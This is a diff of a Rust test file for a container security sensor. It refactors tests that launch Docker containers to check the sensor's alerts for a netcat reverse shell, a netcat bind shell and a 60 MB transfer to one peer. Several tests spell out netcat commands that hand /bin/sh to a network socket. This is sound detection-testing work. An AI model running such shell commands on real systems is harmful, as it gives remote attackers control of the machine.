@@ -5,9 +5,7 @@
 
 use std::{process::Command, time::Duration};
 
-use sensor_tests::{
-    Containers, Sensor, bridge_gateway, container_ip, docker, docker_run_rm, ev, image,
-};
+use sensor_tests::{Containers, Sensor, bridge_gateway, docker, docker_run_rm, ev, image};
 use serde_json::Value;
 
 const SETTLE: Duration = Duration::from_secs(3);
@@ -160,20 +158,9 @@ fn crs008_netcat_listener_with_exec() {
 #[test]
 fn crs009_reverse_shell_over_netcat() {
     let sensor = Sensor::start("crs009");
-    let listener = docker(&[
-        "run",
-        "-d",
-        &image(),
-        "sh",
-        "-c",
-        "(echo id; sleep 3) | nc -l -p 9001",
-    ]);
-    let _cleanup = Containers(vec![listener.clone()]);
-    let lip = container_ip(&listener);
-    sensor.expect("listener up", |e| {
-        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == listener
-    });
-    let shell = run_rm(&[], &["nc", &lip, "9001", "-e", "/bin/sh"]);
+    let listener = sensor.listener(&["sh", "-c", "(echo id; sleep 3) | nc -l -p 9001"]);
+    let lip = &listener.ip;
+    let shell = run_rm(&[], &["nc", lip, "9001", "-e", "/bin/sh"]);
     let a = sensor.expect_alert("CRS-009", &shell);
     assert_alert_fields(&a, "CRS-009", &shell);
     assert_eq!(a["severity"], "SEVERITY_CRITICAL");
@@ -185,32 +172,17 @@ fn crs009_reverse_shell_over_netcat() {
         "{a}"
     );
     // Benign: a service that runs /bin/cat (not a shell) on its socket.
-    let echo = docker(&[
-        "run",
-        "-d",
-        &image(),
-        "nc",
-        "-ll",
-        "-p",
-        "9002",
-        "-e",
-        "/bin/cat",
-    ]);
-    let _cleanup2 = Containers(vec![echo.clone()]);
-    let eip = container_ip(&echo);
-    sensor.expect("echo up", |e| {
-        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == echo
-    });
+    let echo = sensor.listener(&["nc", "-ll", "-p", "9002", "-e", "/bin/cat"]);
     run_rm(
         &[],
         &[
             "sh",
             "-c",
-            &format!("echo hi | nc {eip} 9002 >/dev/null; exit 0"),
+            &format!("echo hi | nc {} 9002 >/dev/null; exit 0", echo.ip),
         ],
     );
-    docker(&["rm", "-f", &echo]);
-    sensor.assert_no_alert("CRS-009", &echo, SETTLE);
+    docker(&["rm", "-f", &echo.id]);
+    sensor.assert_no_alert("CRS-009", &echo.id, SETTLE);
 }
 
 #[test]
@@ -360,23 +332,17 @@ fn crs005_sixty_megabytes_to_one_peer() {
             "mkdir /www && head -c {} /dev/zero > /www/blob && httpd -f -p 8000 -h /www",
             mb << 20
         );
-        let server = docker(&["run", "-d", &image(), "sh", "-c", &script]);
-        let ip = container_ip(&server);
-        sensor.expect("server listening", |e| {
-            e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == server
-        });
-        (server, ip)
+        sensor.listener(&["sh", "-c", &script])
     };
     // Benign: 10 MB (the volume test's transfer) stays under the 50 MB threshold.
-    let (small, small_ip) = serve(10);
-    let (big, big_ip) = serve(60);
-    let _cleanup = Containers(vec![small.clone(), big.clone()]);
+    let small = serve(10);
+    let big = serve(60);
     run_rm(
         &[],
         &[
             "sh",
             "-c",
-            &format!("wget -q -O /dev/null http://{small_ip}:8000/blob"),
+            &format!("wget -q -O /dev/null http://{}:8000/blob", small.ip),
         ],
     );
     run_rm(
@@ -384,13 +350,13 @@ fn crs005_sixty_megabytes_to_one_peer() {
         &[
             "sh",
             "-c",
-            &format!("wget -q -O /dev/null http://{big_ip}:8000/blob"),
+            &format!("wget -q -O /dev/null http://{}:8000/blob", big.ip),
         ],
     );
-    let a = sensor.expect_alert("CRS-005", &big);
-    assert_alert_fields(&a, "CRS-005", &big);
-    docker(&["rm", "-f", &small]);
-    sensor.assert_no_alert("CRS-005", &small, SETTLE);
+    let a = sensor.expect_alert("CRS-005", &big.id);
+    assert_alert_fields(&a, "CRS-005", &big.id);
+    docker(&["rm", "-f", &small.id]);
+    sensor.assert_no_alert("CRS-005", &small.id, SETTLE);
 }
 
 #[test]
@@ -436,22 +402,8 @@ fn crs004_iptables_in_a_container() {
 #[test]
 fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
     let sensor = Sensor::start("crs012");
-    let cid = docker(&[
-        "run",
-        "-d",
-        &image(),
-        "nc",
-        "-l",
-        "-p",
-        "9100",
-        "-e",
-        "/bin/sh",
-    ]);
-    let _cleanup = Containers(vec![cid.clone()]);
-    let ip = container_ip(&cid);
-    sensor.expect("listener up", |e| {
-        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == cid
-    });
+    let bind_shell = sensor.listener(&["nc", "-l", "-p", "9100", "-e", "/bin/sh"]);
+    let (cid, ip) = (&bind_shell.id, &bind_shell.ip);
     run_rm(
         &[],
         &[
@@ -460,8 +412,8 @@ fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
             &format!("echo id | nc {ip} 9100 >/dev/null; exit 0"),
         ],
     );
-    let a = sensor.expect_alert("CRS-012", &cid);
-    assert_alert_fields(&a, "CRS-012", &cid);
+    let a = sensor.expect_alert("CRS-012", cid);
+    assert_alert_fields(&a, "CRS-012", cid);
     let steps: Vec<&str> = a["events"]
         .as_array()
         .unwrap()
@@ -470,32 +422,17 @@ fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
         .collect();
     assert_eq!(steps, ["socket", "exec"], "the listen, then the shell: {a}");
     // Benign: a listener serving /bin/cat.
-    let cat = docker(&[
-        "run",
-        "-d",
-        &image(),
-        "nc",
-        "-l",
-        "-p",
-        "9101",
-        "-e",
-        "/bin/cat",
-    ]);
-    let _cleanup2 = Containers(vec![cat.clone()]);
-    let cip = container_ip(&cat);
-    sensor.expect("cat listener up", |e| {
-        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == cat
-    });
+    let cat = sensor.listener(&["nc", "-l", "-p", "9101", "-e", "/bin/cat"]);
     run_rm(
         &[],
         &[
             "sh",
             "-c",
-            &format!("echo hi | nc {cip} 9101 >/dev/null; exit 0"),
+            &format!("echo hi | nc {} 9101 >/dev/null; exit 0", cat.ip),
         ],
     );
-    docker(&["rm", "-f", &cat]);
-    sensor.assert_no_alert("CRS-012", &cat, SETTLE);
+    docker(&["rm", "-f", &cat.id]);
+    sensor.assert_no_alert("CRS-012", &cat.id, SETTLE);
 }
 
 #[test]
